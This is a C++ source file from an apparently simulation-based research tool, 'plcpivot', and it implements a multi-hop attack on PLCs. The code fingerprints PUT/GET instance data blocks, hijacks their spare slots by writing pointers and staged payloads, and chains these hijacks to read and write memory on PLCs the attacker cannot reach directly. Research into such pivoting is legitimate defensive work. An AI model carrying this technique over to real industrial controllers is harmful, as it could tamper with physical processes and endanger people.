// Copyright (c) 2026 plcpivot contributors.
// SPDX-License-Identifier: Apache-2.0

#include "attack.hpp"

#include <algorithm>
#include <cassert>

namespace plcpivot::attack {

const char* db_class_name(DbClass c) {
    switch (c) {
        case DbClass::Get: return "GET";
        case DbClass::Put: return "PUT";
        case DbClass::Other: return "OTHER";
        case DbClass::Absent: return "ABSENT";
    }
    return "?";
}

std::vector<std::uint32_t> ProbeSet::offsets_for(std::uint32_t db_size) const {
    std::vector<std::uint32_t> out;
    for (std::uint32_t off : fixed)
        if (off < db_size) out.push_back(off);
    for (std::uint32_t i = 0; i < tail_bytes && i < db_size; ++i) {
        std::uint32_t off = db_size - 1 - i;
        if (std::find(out.begin(), out.end(), off) == out.end()) out.push_back(off);
    }
    std::sort(out.begin(), out.end());
    return out;
}

// ------------------------------------------------------------------ session

Session::Session(Fleet& fleet, std::string entry_channel, SessionOptions opts)
    : fleet_(fleet), channel_(std::move(entry_channel)), opts_(std::move(opts)) {
    if (channel_.empty()) {
        auto channels = fleet_.attacker_channels();
        if (channels.empty())
            throw SessionError("no attacker channel in this topology");
        if (channels.size() > 1)
            throw SessionError("multiple attacker channels; pick one explicitly");
        channel_ = channels.front();
    }
    const net::ChannelDef* ch = fleet_.find_channel(channel_);
    if (!ch) throw SessionError("no such channel: " + channel_);
    if (!ch->has_endpoint(net::kAttackerId))
        throw SessionError("channel " + channel_ + " has no attacker endpoint");
    entry_plc_ = ch->peer_of(net::kAttackerId);
}

bool Session::log_kinds_pure() const {
    for (const auto& rec : log_) {
        switch (rec.request.kind) {
            case wire::MsgKind::ReadRequest:
            case wire::MsgKind::WriteRequest: break;
            default: return false;
        }
        if (rec.unreachable) continue;
        switch (rec.response.kind) {
            case wire::MsgKind::ReadResponse:
            case wire::MsgKind::WriteResponse: break;
            default: return false;
        }
    }
    return true;
}

wire::ProtocolMessage Session::exchange(wire::ProtocolMessage request) {
    request.sequence = next_seq_++;
    net::DeliveryResult r = fleet_.deliver(channel_, net::kAttackerId, request);

    LogRecord rec;
    rec.at = fleet_.now();
    rec.request = request;
    rec.unreachable = r.unreachable;
    if (!r.unreachable) rec.response = r.response;
    log_.push_back(rec);

    if (r.unreachable) throw UnreachableError("entry channel unreachable: " + r.reason);
    check_response(request, r.response);
    return std::move(r.response);
}

void Session::check_response(const wire::ProtocolMessage& req,
                             const wire::ProtocolMessage& resp) const {
    if (resp.kind != wire::response_kind_for(req.kind))
        throw ProtocolError("response kind does not pair with request");
    if (resp.sequence != req.sequence)
        throw ProtocolError("response sequence mismatch");
    if (resp.item_count() != req.item_count())
        throw ProtocolError(resp.item_count() == 0
                                ? "peer signalled a protocol error"
                                : "response item count mismatch");
}

wire::ProtocolMessage Session::make_read(std::vector<wire::AddressItem> items) {
    wire::ProtocolMessage m;
    m.kind = wire::MsgKind::ReadRequest;
    for (auto& item : items) m.request_items.push_back({item, {}});
    return m;
}

wire::ProtocolMessage Session::make_write(const wire::AddressItem& item,
                                          std::span<const std::uint8_t> data) {
    wire::ProtocolMessage m;
    m.kind = wire::MsgKind::WriteRequest;
    m.request_items.push_back(
        {item, std::vector<std::uint8_t>(data.begin(), data.end())});
    return m;
}

Session::ReadOutcome Session::read_bytes(std::uint16_t db, std::uint32_t start,
                                         std::uint16_t len) {
    wire::AddressItem item;
    item.db_number = db;
    item.start_byte = start;
    item.length_bytes = len;
    auto resp = exchange(make_read({item}));
    ReadOutcome out;
    out.code = resp.result_items[0].code;
    out.data = std::move(resp.result_items[0].data);
    return out;
}

std::vector<wire::ResultItem> Session::read_items(
    const std::vector<wire::AddressItem>& items) {
    auto resp = exchange(make_read(items));
    return std::move(resp.result_items);
}

Session::ReadOutcome Session::read_bit(std::uint16_t db, std::uint32_t byte,
                                       std::uint8_t bit) {
    wire::AddressItem item;
    item.db_number = db;
    item.start_byte = byte;
    item.start_bit = bit;
    item.bit_access = true;
    item.length_bytes = 1;
    auto resp = exchange(make_read({item}));
    ReadOutcome out;
    out.code = resp.result_items[0].code;
    out.data = std::move(resp.result_items[0].data);
    return out;
}

wire::ReturnCode Session::write_bytes(std::uint16_t db, std::uint32_t start,
                                      std::span<const std::uint8_t> data) {
    wire::AddressItem item;
    item.db_number = db;
    item.start_byte = start;
    item.length_bytes = static_cast<std::uint16_t>(data.size());
    auto resp = exchange(make_write(item, data));
    return resp.result_items[0].code;
}

// ------------------------------------------------------------ probing

std::optional<std::uint32_t> Session::probe_db_size(std::uint16_t db,
                                                    std::uint32_t max_size) {
    if (max_size < 1) throw SessionError("probe_db_size: max_size must be >= 1");

    // f(i): does a one-byte read at offset i succeed?
    auto f = [&](std::uint32_t i) {
        ReadOutcome r = read_bytes(db, i, 1);
        if (r.code == wire::ReturnCode::ObjectDoesNotExist)
            throw ProbeLimitError("DB vanished mid-probe");
        return r.ok();
    };

    ReadOutcome first = read_bytes(db, 0, 1);
    if (first.code == wire::ReturnCode::ObjectDoesNotExist) return std::nullopt;
    if (!first.ok()) return 0;

    // Exponential probe for the first failing offset, then bisect. The
    // observable result equals the linear one-byte-at-a-time scan.
    std::uint32_t lo = 0;  // known readable
    std::uint32_t hi = 1;
    while (true) {
        if (hi > max_size) hi = max_size;
        if (f(hi)) {
            if (hi == max_size)
                throw ProbeLimitError("DB extends past max_size " +
                                      std::to_string(max_size));
            lo = hi;
            hi = hi >= max_size / 2 ? max_size : hi * 2;
        } else {
            break;
        }
    }
    while (hi - lo > 1) {
        std::uint32_t mid = lo + (hi - lo) / 2;
        if (f(mid))
            lo = mid;
        else
            hi = mid;
    }
    return hi;
}

DbFingerprint Session::fingerprint_db(std::uint16_t db) {
    DbFingerprint fp;
    fp.db_number = db;

    std::optional<std::uint32_t> size;
    try {
        size = probe_db_size(db, opts_.max_probe_size);
    } catch (const ProbeLimitError&) {
        fp.classification = DbClass::Other;
        fp.note = "size exceeds probe limit";
        return fp;
    }
    if (!size) {
        fp.classification = DbClass::Absent;
        return fp;
    }
    fp.size_bytes = *size;

    auto profile = opts_.size_profiles.find(*size);
    if (profile == opts_.size_profiles.end()) {
        fp.classification = DbClass::Other;
        fp.note = "size matches no instance-DB profile";
        return fp;
    }

    // Probe the known-unused offsets in one multi-item read.
    std::vector<std::uint32_t> offsets = opts_.probes.offsets_for(*size);
    std::vector<wire::AddressItem> items;
    for (std::uint32_t off : offsets) {
        wire::AddressItem item;
        item.db_number = db;
        item.start_byte = off;
        item.length_bytes = 1;
        items.push_back(item);
    }
    auto results = read_items(items);
    bool clean = true;
    for (std::size_t i = 0; i < results.size(); ++i) {
        const std::uint8_t value = results[i].code == wire::ReturnCode::Success &&
                                           !results[i].data.empty()
                                       ? results[i].data[0]
                                       : 0xFF;
        fp.evidence.emplace_back(offsets[i], value);
        if (value != 0) clean = false;
    }
    if (!clean) {
        fp.classification = DbClass::Other;
        fp.note = "nonzero byte at a probed unused offset";
        return fp;
    }

    // The ADDR region always gets decoded into the fingerprint; whether an
    // invalid pointer disqualifies is the optional step-5 check.
    ReadOutcome region = read_bytes(db, sim::kOffAddr,
                                    sim::kSlotCount * wire::kPointerSize);
    bool slots_ok = region.ok();
    if (region.ok()) {
        for (int s = 0; s < sim::kSlotCount; ++s) {
            std::span<const std::uint8_t> ten(
                region.data.data() + s * wire::kPointerSize, wire::kPointerSize);
            fp.decoded_slots[s] = wire::decode_any_pointer(ten);
            if (fp.decoded_slots[s].is_invalid()) slots_ok = false;
        }
    }
    if (opts_.validate_pointers && !slots_ok) {
        fp.classification = DbClass::Other;
        fp.note = "ADDR slot fails pointer decode";
        return fp;
    }

    fp.classification =
        profile->second == sim::FbKind::Get ? DbClass::Get : DbClass::Put;
    return fp;
}

SlotUsage Session::read_slot_usage(std::uint16_t db) {
    ReadOutcome region = read_bytes(
        db, sim::kOffAddr, 2 * sim::kSlotCount * wire::kPointerSize);
    if (!region.ok())
        throw SessionError(std::string("slot region read failed: ") +
                           wire::return_code_name(region.code));
    SlotUsage usage;
    for (int s = 0; s < sim::kSlotCount; ++s) {
        std::span<const std::uint8_t> a(region.data.data() + s * wire::kPointerSize,
                                        wire::kPointerSize);
        std::span<const std::uint8_t> l(
            region.data.data() + (sim::kSlotCount + s) * wire::kPointerSize,
            wire::kPointerSize);
        usage.addr[s] = wire::decode_any_pointer(a);
        usage.local[s] = wire::decode_any_pointer(l);
        if (usage.addr[s].is_unused() && usage.local[s].is_unused())
            usage.spare.insert(s + 1);
    }
    return usage;
}

void Session::configure_slot(std::uint16_t db, sim::FbKind kind, int slot,
                             const wire::AnyPointer& remote,
                             const wire::AnyPointer& local,
                             std::span<const std::uint8_t> value, bool overwrite) {
    if (slot < 1 || slot > sim::kSlotCount)
        throw SessionError("slot must be 1..4");
    if (!wire::pointer_valid(remote) || !wire::pointer_valid(local))
        throw SessionError("invalid pointer");
    if (!wire::to_address_item(remote))
        throw SessionError("remote pointer not expressible as a request item");

    if (!overwrite) {
        SlotUsage usage = read_slot_usage(db);
        if (!usage.spare.count(slot))
            throw SlotOccupiedError("slot " + std::to_string(slot) +
                                    " is occupied (pass overwrite to force)");
    }

    auto must_write = [&](std::uint32_t start, std::span<const std::uint8_t> data) {
        wire::ReturnCode code = write_bytes(db, start, data);
        if (code != wire::ReturnCode::Success)
            throw SessionError(std::string("configuration write failed: ") +
                               wire::return_code_name(code));
    };

    if (kind == sim::FbKind::Put && !value.empty()) {
        if (value.size() != wire::total_bytes(local))
            throw SessionError("PUT value length must equal total_bytes(local)");
        // Stage the payload before SD/ADDR; left unstaged, the FB sends
        // whatever the location holds (zeros on fresh scratch).
        if (local.elem == wire::ElemType::Bit && local.count == 1) {
            wire::AddressItem item;
            item.db_number = local.db_number;
            item.start_byte = local.byte_offset;
            item.start_bit = local.bit_offset;
            item.bit_access = true;
            item.length_bytes = 1;
            auto resp = exchange(make_write(item, value));
            if (resp.result_items[0].code != wire::ReturnCode::Success)
                throw SessionError("payload staging write failed");
        } else {
            wire::ReturnCode code =
                write_bytes(local.db_number, local.byte_offset, value);
            if (code != wire::ReturnCode::Success)
                throw SessionError(std::string("payload staging write failed: ") +
                                   wire::return_code_name(code));
        }
    } else if (!value.empty()) {
        throw SessionError("GET configuration takes no value");
    }

    auto local_bytes = wire::encode_any_pointer(local);
    auto remote_bytes = wire::encode_any_pointer(remote);
    must_write(sim::local_ptr_offset(slot), local_bytes);
    must_write(sim::addr_offset(slot), remote_bytes);
}

ExecutionObservation Session::await_execution(std::uint16_t db, Micros timeout) {
    const Micros start = fleet_.now();
    const Micros deadline = start + timeout;
    enum class Phase { WaitZero, WaitOne, WaitFall } phase = Phase::WaitZero;

    ExecutionObservation obs;
    while (fleet_.now() < deadline) {
        ReadOutcome r = read_bit(db, sim::kOffReq, 0);
        if (!r.ok())
            throw SessionError(std::string("REQ read failed: ") +
                               wire::return_code_name(r.code));
        const bool executing = !r.data.empty() && r.data[0] != 0;
        switch (phase) {
            case Phase::WaitZero:
                if (!executing) phase = Phase::WaitOne;
                break;
            case Phase::WaitOne:
                if (executing) phase = Phase::WaitFall;
                break;
            case Phase::WaitFall:
                if (!executing) {
                    obs.pulses = 1;
                    ReadOutcome st = read_bytes(db, sim::kOffStatus, 2);
                    if (st.ok() && st.data.size() == 2)
                        obs.last_status =
                            static_cast<std::uint16_t>((st.data[0] << 8) | st.data[1]);
                    obs.elapsed = fleet_.now() - start;
                    return obs;
                }
                break;
        }
        fleet_.advance(opts_.poll_interval);
    }
    obs.timed_out = true;
    obs.elapsed = fleet_.now() - start;
    return obs;
}

std::vector<std::uint8_t> Session::collect_result(const wire::AnyPointer& local) {
    if (local.elem == wire::ElemType::Bit && local.count == 1) {
        ReadOutcome r = read_bit(local.db_number, local.byte_offset, local.bit_offset);
        if (!r.ok())
            throw SessionError(std::string("collect failed: ") +
                               wire::return_code_name(r.code));
        return r.data;
    }
    const std::size_t len = wire::total_bytes(local);
    ReadOutcome r = read_bytes(local.db_number, local.byte_offset,
                               static_cast<std::uint16_t>(len));
    if (!r.ok())
        throw SessionError(std::string("collect failed: ") +
                           wire::return_code_name(r.code));
    return r.data;
}

void Session::reset_slot(std::uint16_t db, sim::FbKind, int slot) {
    if (slot < 1 || slot > sim::kSlotCount)
        throw SessionError("slot must be 1..4");
    const std::array<std::uint8_t, wire::kPointerSize> zeros{};
    if (write_bytes(db, sim::addr_offset(slot), zeros) != wire::ReturnCode::Success)
        throw SessionError("reset write failed (ADDR)");
    if (write_bytes(db, sim::local_ptr_offset(slot), zeros) !=
        wire::ReturnCode::Success)
        throw SessionError("reset write failed (RD/SD)");
}

// ---------------------------------------------------------------- chains

namespace {

// Byte-level access to one PLC's memory, however many hops deep.
class MemoryView {
  public:
    virtual ~MemoryView() = default;
    virtual std::vector<std::uint8_t> read(std::uint16_t db, std::uint32_t start,
                                           std::uint16_t len) = 0;
    virtual void write(std::uint16_t db, std::uint32_t start,
                       std::span<const std::uint8_t> data) = 0;
    /// Pause between REQ poll samples; only the direct view sleeps, deeper
    /// samples are slow on their own.
    virtual void pace() = 0;
};

class DirectView : public MemoryView {
  public:
    explicit DirectView(Session& s) : s_(s) {}

    std::vector<std::uint8_t> read(std::uint16_t db, std::uint32_t start,
                                   std::uint16_t len) override {
        Session::ReadOutcome r = s_.read_bytes(db, start, len);
        if (!r.ok())
            throw SessionError(std::string("read failed: ") +
                               wire::return_code_name(r.code));
        return std::move(r.data);
    }
    void write(std::uint16_t db, std::uint32_t start,
               std::span<const std::uint8_t> data) override {
        if (s_.write_bytes(db, start, data) != wire::ReturnCode::Success)
            throw SessionError("write failed");
    }
    void pace() override { s_.fleet().advance(s_.options().poll_interval); }

  private:
    Session& s_;
};

struct HijackContext {
    Session& session;
    const ChainOptions& opts;
};

void await_pulse_via(MemoryView& view, std::uint16_t db, const HijackContext& ctx,
                     int hop) {
    const Micros startt = ctx.session.fleet().now();
    const Micros deadline = startt + ctx.opts.hop_timeout;
    enum class Phase { WaitZero, WaitOne, WaitFall } phase = Phase::WaitZero;
    while (ctx.session.fleet().now() < deadline) {
        auto req = view.read(db, sim::kOffReq, 1);
        const bool executing = !req.empty() && (req[0] & 0x01) != 0;
        switch (phase) {
            case Phase::WaitZero:
                if (!executing) phase = Phase::WaitOne;
                break;
            case Phase::WaitOne:
                if (executing) phase = Phase::WaitFall;
                break;
            case Phase::WaitFall:
                if (!executing) {
                    auto st = view.read(db, sim::kOffStatus, 2);
                    const std::uint16_t status =
                        static_cast<std::uint16_t>((st[0] << 8) | st[1]);
                    if (status != 0)
                        throw ChainHopError(hop, "FB reported error status " +
                                                     std::to_string(status),
                                            status);
                    return;
                }
                break;
        }
        view.pace();
    }
    throw ChainHopError(hop, "timeout awaiting FB execution at hop " +
                                 std::to_string(hop),
                        0, true);
}

int pick_spare_slot(MemoryView& view, std::uint16_t db, int hop) {
    auto region = view.read(db, sim::kOffAddr,
                            2 * sim::kSlotCount * wire::kPointerSize);
    for (int s = 0; s < sim::kSlotCount; ++s) {
        std::span<const std::uint8_t> a(region.data() + s * wire::kPointerSize,
                                        wire::kPointerSize);
        std::span<const std::uint8_t> l(
            region.data() + (sim::kSlotCount + s) * wire::kPointerSize,
            wire::kPointerSize);
        if (wire::decode_any_pointer(a).is_unused() &&
            wire::decode_any_pointer(l).is_unused())
            return s + 1;
    }
    throw ChainCapabilityError(hop, "no spare slot on instance DB " +
                                        std::to_string(db) + " at hop " +
                                        std::to_string(hop));
}

constexpr std::array<std::uint8_t, wire::kPointerSize> kZeroPointer{};

wire::AnyPointer scratch_pointer(std::uint16_t instance_db, std::size_t len) {
    wire::AnyPointer p;
    p.db_number = instance_db;
    p.byte_offset = kScratchOffset;
    p.elem = wire::ElemType::Byte;
    p.count = static_cast<std::uint16_t>(len);
    return p;
}

std::size_t scratch_capacity(std::uint32_t db_size, const ProbeSet& probes) {
    const std::uint32_t tail = probes.tail_bytes;
    if (db_size <= kScratchOffset + tail) return 0;
    return db_size - kScratchOffset - tail;
}

// GET hijack through `view` (which reaches the PLC hosting get_db): fetch
// the bytes `target` names on that PLC's peer.
std::vector<std::uint8_t> hijack_read(MemoryView& view, std::uint16_t get_db,
                                      std::uint32_t get_db_size,
                                      const wire::AnyPointer& target,
                                      const HijackContext& ctx, int hop) {
    const std::size_t len = wire::total_bytes(target);
    if (len == 0) return {};
    if (len > scratch_capacity(get_db_size, ctx.session.options().probes))
        throw SessionError("target larger than hijack scratch capacity");

    const int slot = pick_spare_slot(view, get_db, hop);
    const wire::AnyPointer local = scratch_pointer(get_db, len);

    view.write(get_db, sim::local_ptr_offset(slot), wire::encode_any_pointer(local));
    view.write(get_db, sim::addr_offset(slot), wire::encode_any_pointer(target));
    try {
        await_pulse_via(view, get_db, ctx, hop);
        auto data = view.read(get_db, kScratchOffset, static_cast<std::uint16_t>(len));
        view.write(get_db, sim::addr_offset(slot), kZeroPointer);
        view.write(get_db, sim::local_ptr_offset(slot), kZeroPointer);
        return data;
    } catch (...) {
        // Best-effort restoration before propagating.
        view.write(get_db, sim::addr_offset(slot), kZeroPointer);
        view.write(get_db, sim::local_ptr_offset(slot), kZeroPointer);
        throw;
    }
}

// PUT hijack: land `data` at `target` on the peer of the PLC hosting put_db.
void hijack_write(MemoryView& view, std::uint16_t put_db, std::uint32_t put_db_size,
                  const wire::AnyPointer& target, std::span<const std::uint8_t> data,
                  const HijackContext& ctx, int hop) {
    if (data.empty()) return;
    if (data.size() != wire::total_bytes(target))
        throw SessionError("data length must equal total_bytes(target)");
    if (data.size() > scratch_capacity(put_db_size, ctx.session.options().probes))
        throw SessionError("data larger than hijack scratch capacity");

    const int slot = pick_spare_slot(view, put_db, hop);
    const wire::AnyPointer local = scratch_pointer(put_db, data.size());

    view.write(put_db, kScratchOffset, data);  // payload before SD/ADDR
    view.write(put_db, sim::local_ptr_offset(slot), wire::encode_any_pointer(local));
    view.write(put_db, sim::addr_offset(slot), wire::encode_any_pointer(target));
    try {
        await_pulse_via(view, put_db, ctx, hop);
        view.write(put_db, sim::addr_offset(slot), kZeroPointer);
        view.write(put_db, sim::local_ptr_offset(slot), kZeroPointer);
    } catch (...) {
        view.write(put_db, sim::addr_offset(slot), kZeroPointer);
        view.write(put_db, sim::local_ptr_offset(slot), kZeroPointer);
        throw;
    }
}

// Memory of hop k's PLC, reached by hijacking hop k-1's PUT/GET FBs through
// the view one level down.
class HijackView : public MemoryView {
  public:
    HijackView(MemoryView& below, const Hop& below_hop, const HijackContext& ctx,
               int below_index, std::uint32_t get_size, std::uint32_t put_size)
        : below_(below), hop_(below_hop), ctx_(ctx), index_(below_index),
          get_size_(get_size), put_size_(put_size) {}

    std::vector<std::uint8_t> read(std::uint16_t db, std::uint32_t start,
                                   std::uint16_t len) override {
        wire::AnyPointer target;
        target.db_number = db;
        target.byte_offset = start;
        target.elem = wire::ElemType::Byte;
        target.count = len;
        return hijack_read(below_, *hop_.get_db, get_size_, target, ctx_, index_);
    }

    void write(std::uint16_t db, std::uint32_t start,
               std::span<const std::uint8_t> data) override {
        wire::AnyPointer target;
        target.db_number = db;
        target.byte_offset = start;
        target.elem = wire::ElemType::Byte;
        target.count = static_cast<std::uint16_t>(data.size());
        hijack_write(below_, *hop_.put_db, put_size_, target, data, ctx_, index_);
    }

    void pace() override {}

  private:
    MemoryView& below_;
    Hop hop_;
    HijackContext ctx_;
    int index_;
    std::uint32_t get_size_;
    std::uint32_t put_size_;
};

struct ChainStack {
    std::vector<std::unique_ptr<MemoryView>> views;
    MemoryView& top() { return *views.back(); }
};

std::uint32_t profile_size(const SessionOptions& opts, sim::FbKind kind) {
    for (const auto& [size, k] : opts.size_profiles)
        if (k == kind) return size;
    return kind == sim::FbKind::Get ? sim::kGetDbSize : sim::kPutDbSize;
}

// Builds views V0..V_{m-1}; Vk reads/writes hop k's PLC. Hops 0..m-2 must
// expose both FBs for the level above them.
ChainStack build_views(Session& session, const std::vector<Hop>& chain,
                       const HijackContext& ctx) {
    ChainStack stack;
    stack.views.push_back(std::make_unique<DirectView>(session));
    for (std::size_t k = 1; k < chain.size(); ++k) {
        const Hop& below = chain[k - 1];
        if (!below.get_db)
            throw ChainCapabilityError(static_cast<int>(k - 1),
                                       "hop " + std::to_string(k - 1) + " (" +
                                           below.plc + ") has no GET instance DB");
        if (!below.put_db)
            throw ChainCapabilityError(static_cast<int>(k - 1),
                                       "hop " + std::to_string(k - 1) + " (" +
                                           below.plc + ") has no PUT instance DB");
        stack.views.push_back(std::make_unique<HijackView>(
            *stack.views[k - 1], below, ctx, static_cast<int>(k - 1),
            profile_size(session.options(), sim::FbKind::Get),
            profile_size(session.options(), sim::FbKind::Put)));
    }
    return stack;
}

void validate_chain(const Session& session, const std::vector<Hop>& chain) {
    if (chain.empty()) throw SessionError("empty pivot chain");
    if (chain.front().plc != session.entry_plc())
        throw SessionError("chain must start at the entry PLC " +
                           session.entry_plc());
}

}  // namespace

std::vector<std::uint8_t> Session::remote_read(const std::vector<Hop>& chain,
                                               const wire::AnyPointer& target,
                                               const ChainOptions& opts) {
    validate_chain(*this, chain);
    const Hop& last = chain.back();
    const int last_index = static_cast<int>(chain.size()) - 1;
    if (!last.get_db)
        throw ChainCapabilityError(last_index, "final hop (" + last.plc +
                                                   ") has no GET instance DB");
    if (!wire::pointer_valid(target) || !wire::to_address_item(target))
        throw SessionError("invalid target pointer");

    HijackContext ctx{*this, opts};
    ChainStack stack = build_views(*this, chain, ctx);
    return hijack_read(stack.top(), *last.get_db,
                       profile_size(opts_, sim::FbKind::Get), target, ctx,
                       last_index);
}

void Session::remote_write(const std::vector<Hop>& chain,
                           const wire::AnyPointer& target,
                           std::span<const std::uint8_t> data,
                           const ChainOptions& opts) {
    validate_chain(*this, chain);
    const Hop& last = chain.back();
    const int last_index = static_cast<int>(chain.size()) - 1;
    if (!last.put_db)
        throw ChainCapabilityError(last_index, "final hop (" + last.plc +
                                                   ") has no PUT instance DB");
    if (!wire::pointer_valid(target) || !wire::to_address_item(target))
        throw SessionError("invalid target pointer");
    if (data.empty()) return;  // no-op
    if (data.size() != wire::total_bytes(target))
        throw SessionError("data length must equal total_bytes(target)");

    HijackContext ctx{*this, opts};
    ChainStack stack = build_views(*this, chain, ctx);
    hijack_write(stack.top(), *last.put_db, profile_size(opts_, sim::FbKind::Put),
                 target, data, ctx, last_index);

    if (opts.verify_writes && last.get_db) {
        auto readback = remote_read(chain, target, opts);
        if (!std::equal(readback.begin(), readback.end(), data.begin(), data.end()))
            throw VerifyMismatchError("remote write verification mismatch");
    }
}

}  // namespace plcpivot::attack
